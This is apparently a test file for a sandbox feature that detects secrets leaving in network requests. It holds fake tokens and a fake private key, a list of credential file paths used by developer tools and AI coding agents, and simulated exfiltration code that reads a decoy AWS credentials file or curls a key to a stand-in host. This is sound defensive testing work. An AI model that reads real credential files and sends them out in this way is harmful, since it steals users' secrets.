"""Secrets of the host in requests to hosts at which TLS ends here: they are found in each form, reported or stopped, and nothing else is."""
import base64
import gzip
import json

from secrets_outside import RULES, SECRET, caller, requests
from session import sanitized_too

TESTS = []
# Made up, of the right shape.
KEY = "ghp_R4nd0mLettersThatNobodyEverUsed01Xyz"
PRIVATE = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACDkq1bW0n3o5s7F8l2c9d4e6f1a0b3c5d7e9f2a4b6c8d0e1fAAAAECx
-----END OPENSSH PRIVATE KEY-----
"""
FORMS = {
    "plain": KEY,
    "json": json.dumps({"messages": [{"content": f"line\n{KEY}\nline"}]}),
    "base64": base64.b64encode(f"some text\ntoken: {KEY}\n".encode()).decode(),
    "percent": "".join(f"%{byte:02x}" for byte in KEY.encode()),
    "lines": "\n".join(KEY[i : i + 12] for i in range(0, len(KEY), 12)),
}
POST = r"""
import http.client, json, os, ssl, sys
def post(path, body, **headers):
    there = http.client.HTTPSConnection("allowed.test", timeout=60)
    try:
        there.request("POST", path, body, {name.replace("_", "-"): value for name, value in headers.items()})
        answer = there.getresponse()
        return answer.status, answer.read().decode(errors="replace")
    except OSError as error:
        return type(error).__name__, ""
"""


def test(function):
    TESTS.append(function)
    return function


def policy(session, text) -> list:
    """The user's own file: the word has no flag."""
    (session.home / "leak.bawn").write_text(text + "\n")
    return [f"policy {session.home / 'leak.bawn'}"]


def python(session, code, rules=(), env=None):
    return session.run([*RULES, *rules], "/usr/bin/python3", "-c", POST + code, env=env or caller(session), timeout=60)


def told(session) -> list:
    return [(event["what"], event["host"], event["port"], event["done"]) for event in session.events("leak")]


@test
@sanitized_too
def a_key_is_reported_and_passes(session):
    done = python(session, f"print(post('/post', {KEY!r}))")
    assert done.out == f"(200, {KEY!r})\n", done
    [(_, path, _, body)] = requests(session)
    assert (path, body) == ("/post", KEY)
    assert told(session) == [("a key (ghp_…)", "allowed.test", "443", "passed on")], told(session)
    assert KEY not in json.dumps(session.journal())
    said = session.on_terminal([*RULES, *policy(session, "leak warn")], "true")
    assert "leak" not in said, said  # the control


@test
@sanitized_too
def each_form_is_stopped_before_a_byte_has_gone_on(session):
    for name, body in FORMS.items():
        done = python(session, f"print(*post('/{name}', {body!r}), sep='|')", policy(session, "leak block"))
        assert done.out.startswith("403|bawn: this request to allowed.test was stopped, on purpose: it has a key (ghp_…) in it."), (name, done)
        assert requests(session) == [], name
    assert told(session) == [("a key (ghp_…)", "allowed.test", "443", "stopped")] * len(FORMS)
    for name, body in FORMS.items():  # the control
        done = python(session, f"print(post('/{name}', {body!r})[0])", policy(session, "leak off"))
        assert done.out == "200\n", (name, done)
    assert len(requests(session)) == len(FORMS) and len(told(session)) == len(FORMS)


@test
@sanitized_too
def heads_are_searched_but_for_the_place_of_a_credential(session):
    rules = policy(session, "leak block")
    code = f"""
print(post('/x?k={KEY}', '')[0], post('/', '', X_Note={KEY!r})[0], post('/{KEY}', '')[0])
print(post('/fine', '', Authorization='Bearer {KEY}')[0], post('/fine', '', X_Api_Key={KEY!r})[0])
"""
    done = python(session, code, rules)
    assert done.out == "403 403 403\n200 200\n", done
    assert [path for _, path, _, _ in requests(session)] == ["/fine", "/fine"]


@test
def large_content_is_cut_off_before_the_key(session):
    rules = policy(session, "leak block")
    for size in (1000, 60_000, 70_000, 3_000_000):
        done = python(session, f"print(post('/large', b'x y ' * ({size} // 4) + {KEY.encode()!r} + b' z' * 100)[0])", rules)
        assert done.out.strip() in ("403", "BrokenPipeError", "ConnectionResetError", "SSLEOFError"), (size, done)
        bodies = [body for _, _, _, body in requests(session)]
        assert bodies == [] if size < 65_536 else all(body < size for body in bodies), (size, bodies)
    code = f"print(post('/chunks', iter([b'a ' * 8000, {KEY[:9].encode()!r}, {KEY[9:].encode()!r}, b' b' * 8000]))[0])"
    done = python(session, code, rules)
    assert done.out.strip() in ("403", "BrokenPipeError", "ConnectionResetError", "SSLEOFError"), done
    assert requests(session) == []
    for size in (0, 1, 65535, 65536, 65537, 200_000):  # the control: what has no secret passes whole
        done = python(session, f"print(post('/whole', b'x' * {size})[0])", rules)
        [(_, _, _, body)] = requests(session)
        assert done.out == "200\n" and (body == size or len(body) == size), (size, body, done)
    done = python(session, code.replace(KEY[:9], "harmless "), rules)
    assert done.out == "200\n" and len(requests(session)) == 1, done


@test
def a_private_key_is_found_and_a_mention_is_not(session):
    done = python(session, f"print(post('/', {PRIVATE!r})[0], post('/', json.dumps(dict(a={PRIVATE!r})))[0], post('/', 'x -----BEGIN PRIVATE KEY----- y')[0])",
                  policy(session, "leak block"))
    assert done.out == "403 403 200\n", done
    assert told(session) == [("a private key", "allowed.test", "443", "stopped")], told(session)


@test
@sanitized_too
def the_placeholder_is_no_leak_anywhere_in_a_request_to_its_host(session):
    code = """
key = os.environ["API_KEY"]
import base64
print(post('/', json.dumps(dict(env='API_KEY=' + key)), X_Api_Key=key)[0], post('/?k=' + key, base64.b64encode(key.encode()))[0])
"""
    done = python(session, code, policy(session, "leak block"))
    assert done.out == "200 200\n" and told(session) == [], (done, told(session))
    longer = caller(session, API_KEY=SECRET + "R4nd0mLettersThatNobodyEverUsed")
    done = python(session, code, policy(session, "leak block"), longer)
    assert done.out == "200 200\n" and told(session) == [], (done, told(session))


@test
def the_same_leak_is_told_once_and_the_end_names_it(session):
    line, env = "for i in 1 2 3 4 5; do curl -sS -d %s https://allowed.test/post; done", caller(session)
    said = session.on_terminal(["connect allowed.test/** POST"], "sh", "-c", line % KEY, env=env)
    assert "leak" in said and "a key (ghp_…) was sent to allowed.test" in said, said
    assert len(told(session)) == 1 and len(requests(session)) == 5
    said = session.on_terminal(["connect allowed.test/** POST", *policy(session, "leak block")], "sh", "-c", line % KEY, env=env)
    assert "a key (ghp_…) was in a request to allowed.test, which was stopped" in said and requests(session) == [], said
    said = session.on_terminal(["connect allowed.test/** POST"], "sh", "-c", line % "harmless", env=env)  # the control
    assert "leak" not in said, said


@test
def compressed_content_is_not_searched(session):
    """It is said so in docs/SECRETS.md: this is the limit of the search."""
    done = python(session, f"print(post('/post', {gzip.compress(KEY.encode())!r}, Content_Encoding='gzip')[0])", policy(session, "leak block"))
    assert done.out == "200\n" and told(session) == [], done


@test
@sanitized_too
def the_key_of_the_decoy_is_a_certain_alarm_in_each_form(session):
    code = r"""
import base64, re
text = open(os.path.expanduser("~/.aws/credentials")).read()
one, two = re.search("aws_access_key_id = (AKIA[A-Z2-7]{16})\naws_secret_access_key = ([A-Za-z0-9]{40})\n$", text).groups()
print(one)
for body in (text, base64.b64encode(text.encode()), two, json.dumps(dict(a=text))):
    print(post("/", body)[0], end=" ")
print(post("/", "", X_Api_Key=two)[0], post("/?" + two, "")[0], post("/", two[:-1])[0], post("/", two[::-1])[0])
"""
    first = python(session, code, policy(session, "leak block"))
    second = python(session, code, policy(session, "leak block"))
    for done in (first, second):
        assert done.out.splitlines()[1:] == ["403 403 403 403 403 403 200 200"], done
    assert first.out.splitlines()[0] != second.out.splitlines()[0], first  # another one in each session
    alarms = [event for event in told(session) if event[0] == "the key of the decoy ~/.aws/credentials"]
    assert len(alarms) == 2 and len(session.events("tripwire")) >= 2, session.events("leak")
    control = python(session, code, policy(session, "leak off"))
    assert control.out.splitlines()[1:] == ["200 " * 7 + "200"], control


@test
@sanitized_too
def the_value_of_a_variable_that_stays_outside_is_found(session):
    value, given = "w7Kp2mQx9Lr4Tz6Vb8Nc", "h5Jd3fGs1Aq0We9Ry2Ui"  # of no known format
    env = caller(session, DB_PASSWORD=value, DB_URL_TOKEN=f"https://me:{value[::-1]}@db.test/x", GIVEN_TOKEN=given, SESSION_MANAGER="local/a-long-name-of-a-host-7")
    code = f"print(*[post('/', body)[0] for body in ({value!r}, 'x=' + {value[::-1]!r}, {given!r}, 'a-long-name-of-a-host-7', {value[:-1]!r})])"
    done = python(session, code, [*policy(session, "leak block"), "env GIVEN_TOKEN"], env)
    assert done.out == "403 403 200 200 200\n", done
    assert sorted(told(session)) == [(f"the value of ${name}", "allowed.test", "443", "stopped") for name in ("DB_PASSWORD", "DB_URL_TOKEN")]
    assert value not in json.dumps(session.journal())
    done = python(session, f"print(post('/', {SECRET!r})[0])", policy(session, "leak block"))  # the value that stays outside is not inside, but may be known
    assert done.out == "403\n" and "the value of $API_KEY" in [event[0] for event in told(session)], done
    control = python(session, code, policy(session, "leak off"), env)
    assert control.out == "200 200 200 200 200\n", control


def made_up(number) -> str:
    """A token of no known format."""
    return f"tK{number:02}wQ7zLx9Rm4Vb2Nc8Jd5Fg"


def b64(text) -> str:
    return base64.b64encode(text.encode()).decode()


# Each file as its program writes it, and the token that must be found; {T} stands for it.
FILES = {
    ".netrc": ("machine api.test\n  login me\n  password {T}\n", None),
    ".npmrc": ("registry=https://registry.npmjs.org/\n//registry.corp:8080/npm/:_authToken={T}\nemail=a.long.ordinary.name1@corp.test\n", None),
    ".yarnrc.yml": ('npmRegistries:\n  "https://registry.corp":\n    npmAuthToken: "{T}"\n', None),
    ".pypirc": ("[pypi]\nusername = __token__\npassword = {T}\n", None),
    ".cargo/credentials": ('[registry]\ntoken = "{T}"\n', None),
    ".cargo/credentials.toml": ('[registries.corp]\ntoken = "Bearer {T}"\n', None),
    ".aws/credentials": ("[default]\naws_access_key_id = AKIAABCDEFGHIJ234567\naws_secret_access_key = {T}\n", None),
    ".git-credentials": ("https://me:{T}@git.test\n", None),
    ".config/git/credentials": ("https://{T}:x-oauth-basic@git.test\n", None),
    ".config/gh/hosts.yml": ("github.com:\n    users:\n        me:\n            oauth_token: {T}\n    git_protocol: https\n", None),
    ".config/glab-cli/config.yml": ("hosts:\n    gitlab.com:\n        token: {T}\n", None),
    ".docker/config.json": ('{"auths": {"registry.test": {"auth": "{T}"}}}', lambda token: b64(f"me:{token}")),
    ".claude/.credentials.json": ('{"claudeAiOauth": {"accessToken": "{T}", "expiresAt": 1}}', None),
    ".codex/auth.json": ('{"tokens": {"refresh_token": "{T}", "account_id": "0c6f2a1e-9b7d-4f3e-8a51-2d4b6c8e0f1a"}}', None),
    ".gemini/oauth_creds.json": ('{"access_token": "{T}"}', None),
    ".qwen/oauth_creds.json": ('{"refresh_token": "{T}"}', None),
    ".pi/agent/auth.json": ('{"openai": {"type": "api_key", "key": "{T}"}}', None),
    ".cline/data/secrets.json": ('{"openRouterApiKey": "{T}"}', None),
    ".local/share/opencode/auth.json": ('{"anthropic": {"type": "oauth", "refresh": "{T}"}}', None),
    ".config/github-copilot/apps.json": ('{"github.com:x": {"user": "me", "oauth_token": "{T}"}}', None),
}


class Files:
    """The files in the user's home, each with a token of its own."""

    def __init__(self, session, texts):
        self.paths = [session.home / name for name in texts]
        for path, text in zip(self.paths, texts.values(), strict=True):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for path in self.paths:
            path.unlink(missing_ok=True)


@test
@sanitized_too
def the_token_of_each_known_file_is_found_plain_and_in_base64(session):
    tokens = {name: made_up(number) for number, name in enumerate(FILES)}
    texts = {name: text.replace("{T}", (wrap or str)(tokens[name])) for name, (text, wrap) in FILES.items()}
    bodies = [body for token in tokens.values() for body in (token, f'{{"x": "{b64("some text " + token + " and more")}"}}')]
    (session.work / "bodies").write_text(json.dumps(bodies))  # not in the arguments, which the journal has
    code = "print(*[post('/', body)[0] for body in json.load(open('bodies'))])"
    with Files(session, texts):
        done = python(session, code, policy(session, "leak block"))
        assert done.out.split() == ["403"] * len(bodies) and requests(session) == [], done
        found = {what for what, _, _, did in told(session) if did == "stopped"}
        assert found == {f"a token of ~/{name}" for name in FILES}, found
        assert not [token for token in tokens.values() if token in json.dumps(session.journal())]
        done = python(session, code)  # `leak warn`
        assert done.out.split() == ["200"] * len(bodies) and len(requests(session)) == len(bodies), done
        assert {what for what, _, _, did in told(session) if did == "passed on"} == found
        before = len(told(session))
        done = python(session, code, policy(session, "leak off"))  # the control
        assert done.out.split() == ["200"] * len(bodies) and len(told(session)) == before, done
    done = python(session, code, policy(session, "leak block"))  # the control: nobody knows these words without the files
    assert done.out.split() == ["200"] * len(bodies) and len(told(session)) == before, done


@test
@sanitized_too
def ordinary_words_of_these_files_are_no_leak(session):
    texts = {".netrc": "machine a-long-name-of-a-machine-7.test login a-long-name-of-a-user-7 password short1\n",
             ".npmrc": "//registry.npmjs.org/:_authToken=${A_VARIABLE_OF_2026_X}\nregistry=https://a-registry-of-2026.corp.test/npm\n_auth=\n; _password=aComment0123456789xyz\n",
             ".git-credentials": "https://a-long-name-of-a-user-7:password@git-server-0123.test\n",
             ".docker/config.json": '{"auths": {"a-registry-of-2026.corp.test": {}}, "credsStore": "secretservice-0123456789"}',
             ".codex/auth.json": '{"tokens": {"id_token": "aGVhZGVyMDEy.Y2xhaW1zMDEyMzQ1Njc4.c2lnbmF0dXJlMDEyMzQ1", "account_id": "0c6f2a1e-9b7d-4f3e-8a51-2d4b6c8e0f1a"}}',
             ".pypirc": "[pypi]\nusername = a-long-name-of-a-user-7\npassword = correct-horse-battery\n"}
    words = ["a-long-name-of-a-machine-7.test", "a-long-name-of-a-user-7", "short1", "a-registry-of-2026.corp.test", "aComment0123456789xyz", "git-server-0123.test",
             "secretservice-0123456789", "0c6f2a1e-9b7d-4f3e-8a51-2d4b6c8e0f1a", "aGVhZGVyMDEy.Y2xhaW1zMDEyMzQ1Njc4.another-signature", "correct-horse-battery", "password"]
    with Files(session, texts):
        done = python(session, f"print(*[post('/', body)[0] for body in {words!r}])", policy(session, "leak block"))
    assert done.out.split() == ["200"] * len(words) and told(session) == [], (done, told(session))


@test
def what_the_policy_shows_may_be_sent(session):
    """A login that is inside is sent by its program: that is no leak, wherever it goes."""
    token, other = made_up(91), made_up(92)
    code = f"print(post('/', {token!r})[0], post('/', '', Authorization='Bearer ' + {token!r})[0], post('/', {other!r})[0])"
    with Files(session, {".netrc": f"machine a.test password {token}\n", ".npmrc": f"//r.test/:_authToken={other}\n"}):
        done = python(session, code, [*policy(session, "leak block"), f"read {session.home}/.netrc"])
        assert done.out == "200 200 403\n", done
        done = python(session, code, [*policy(session, "leak block"), "env GIVEN"], caller(session, GIVEN=other))
        assert done.out == "403 403 200\n", done


@test
def a_file_that_cannot_be_read_is_said_to_be_not_searched(session):
    token = made_up(93)
    with Files(session, {".docker/config.json": '{"auths": {"a": {"auth": ', ".netrc": f"machine a.test password {token}\n", ".pypirc": "x" * (1 << 20) + "x\n"}):
        done = python(session, f"print(post('/', {token!r})[0])", policy(session, "leak block"))
    assert done.out == "403\n", done
    why = sorted(event["why"] for event in session.events("network-trouble"))
    assert why == [f"requests are not searched for tokens of ~/{name}, which cannot be read" for name in (".docker/config.json", ".pypirc")], why
